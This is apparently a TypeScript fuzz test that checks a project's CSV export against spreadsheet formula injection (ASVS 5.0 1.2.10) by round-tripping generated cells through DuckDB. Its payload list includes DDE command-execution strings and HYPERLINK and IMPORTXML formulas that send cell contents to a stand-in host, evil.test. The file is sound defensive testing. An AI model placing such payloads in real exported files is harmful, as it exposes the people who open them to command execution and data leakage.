// Cells that a spreadsheet would calculate, through the CSV export and back: tsx test/campaigns/s7.ts [--count 5000] [--seed 1]
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import os from "node:os";
import path from "node:path";
import { parseArgs } from "node:util";
import { type DuckDBConnection, DuckDBInstance } from "@duckdb/node-api";
import type { RunRecord } from "../../src/record/run-record.js";
import { filesOf, hostileRun, materialOf, recordNamed } from "../exports/material.js";
import { mulberry32 } from "../mulberry32.js";

/** What a campaign found. */
export interface Found {
  readonly seed: number;
  /** Cells that were written, over all tables, and texts among them that began with a sign. */
  readonly cells: number;
  readonly texts: number;
  /** One line for each cell that is calculated, is another one when it is read back, or number that became a text. */
  readonly broken: readonly string[];
}

// ASVS 5.0, 1.2.10: = + - @ tab, carriage return, NUL; their full-width forms, which spreadsheets in East Asian locales take for the same.
const signs = ["=", "+", "-", "@", "\t", "\r", "\u0000", "\uff1d", "\uff0b", "\uff0d", "\uff20"];
const bodies = [
  "1+1",
  "cmd|' /C calc'!A1",
  'HYPERLINK("http://evil.test?x="&A1,"x")',
  "SUM(A1:A9)*cmd|' /C calc'!A0",
  'IMPORTXML(CONCAT("http://evil.test",A2),"//a")',
  '","=1+1',
  "\n=1+1",
  "'=1",
  "\\u{3d}1",
  "12",
  "1e5",
  "",
];

/** Texts of one sign or two and something that it would calculate, some within quotes or lines of their own. */
export function texts(count: number, seed: number): string[] {
  const random = mulberry32(seed);
  const one = <Item>(items: readonly Item[]): Item => items[Math.floor(random() * items.length)] as Item;
  return Array.from({ length: count }, (_, place) => {
    const sign = signs[place % signs.length] ?? "=";
    return `${sign}${random() < 0.2 ? one(signs) : ""}${one(bodies)}${random() < 0.3 ? one([",", '"', "\r\n", "'"]) : ""}`;
  });
}

/** As documented: the first apostrophe goes, and written characters become themselves. */
const readBack = (cell: string): string =>
  cell.replace(/^'/, "").replace(/\\u\{([0-9a-f]+)\}/g, (_, code) => String.fromCodePoint(Number.parseInt(code, 16)));

/** What a cell of the record must be when it is read back; null: no value. */
function wanted(value: unknown): string | null {
  if (value === null || value === undefined) return null;
  if (typeof value === "object") return JSON.stringify(value);
  return Object.is(value, -0) ? "0" : String(value);
}

async function read(connection: DuckDBConnection, file: string, options: string) {
  const result = await connection.runAndReadAll(
    `select * from read_csv('${file}', delim = ',', quote = '"', escape = '"', header = true, ${options})`,
  );
  return { rows: result.getRowObjectsJson() as Record<string, unknown>[], types: result.columnTypes().map(String) };
}

/** Faults of one table; DuckDB reads it, which has no part in writing it. */
async function faultsOf(connection: DuckDBConnection, file: string, rows: readonly object[]): Promise<string[]> {
  const { rows: found } = await read(connection, file, "all_varchar = true, allow_quoted_nulls = false");
  const name = path.basename(file);
  if (found.length !== rows.length) return [`${name}: ${found.length} rows of ${rows.length}`];
  return rows.flatMap((row, place) =>
    Object.entries(found[place] ?? {}).flatMap(([column, cell]) => {
      const value = (row as Record<string, unknown>)[column];
      const at = `${name} row ${place + 1} ${column}`;
      const text = cell === null ? null : String(cell);
      const isCalculated = text !== null && typeof value !== "number" && signs.some((sign) => text.startsWith(sign));
      return [
        ...(isCalculated ? [`${at} is calculated: ${JSON.stringify(cell)}`] : []),
        ...((text === null ? null : readBack(text)) === wanted(value)
          ? []
          : [`${at} is another: ${JSON.stringify(cell)}`]),
      ];
    }),
  );
}

/** Writes `count` texts, and tables full of the first of them, as CSV, and reads them back. */
export async function campaign({ count, seed }: { count: number; seed: number }): Promise<Found> {
  const given = texts(count, seed);
  const folder = mkdtempSync(path.join(os.tmpdir(), "evenhand-s7-"));
  const connection = await (await DuckDBInstance.create(":memory:")).connect();
  const base = recordNamed("typical");
  const [exclusion] = base.exclusions;
  const record: RunRecord = {
    ...hostileRun(given.slice(0, 120)),
    exclusions: given.map((reason, rows) => ({ attribute: null, group: null, ...exclusion, reason, rows: -rows })),
  };
  const broken: string[] = [];
  let cells = 0;
  try {
    for (const { name, content } of filesOf("csv", materialOf(record))) {
      const file = path.join(folder, name);
      writeFileSync(file, String(content));
      const rows = record[name.replace(".csv", "") as "groups"] as readonly object[];
      if (rows.length === 0) continue;
      cells += rows.length * Object.keys(rows[0] ?? {}).length;
      broken.push(...(await faultsOf(connection, file, rows)));
    }
    const { types } = await read(
      connection,
      path.join(folder, "exclusions.csv"),
      "auto_detect = true, sample_size = -1",
    );
    if (!types.includes("BIGINT")) broken.push(`exclusions.csv: no column of numbers among ${types.join(", ")}`);
  } finally {
    connection.closeSync();
    rmSync(folder, { recursive: true, force: true });
  }
  return { seed, cells, texts: count, broken };
}

/** One line a log can be searched for: "S7: 5,000 texts in 40,000 cells, 0 broken, seed 1". */
export const summary = ({ seed, cells, texts: count, broken }: Found): string =>
  `S7: ${count.toLocaleString("en")} texts in ${cells.toLocaleString("en")} cells, ${broken.length} broken, seed ${seed}`;

async function main(): Promise<void> {
  const { values } = parseArgs({
    options: { count: { type: "string", default: "5000" }, seed: { type: "string", default: "1" } },
  });
  const found = await campaign({ count: Number(values.count), seed: Number(values.seed) });
  for (const each of found.broken) console.error(each);
  console.log(summary(found));
  process.exitCode = found.broken.length === 0 ? 0 : 1;
}

if (process.argv[1] === import.meta.filename) await main();
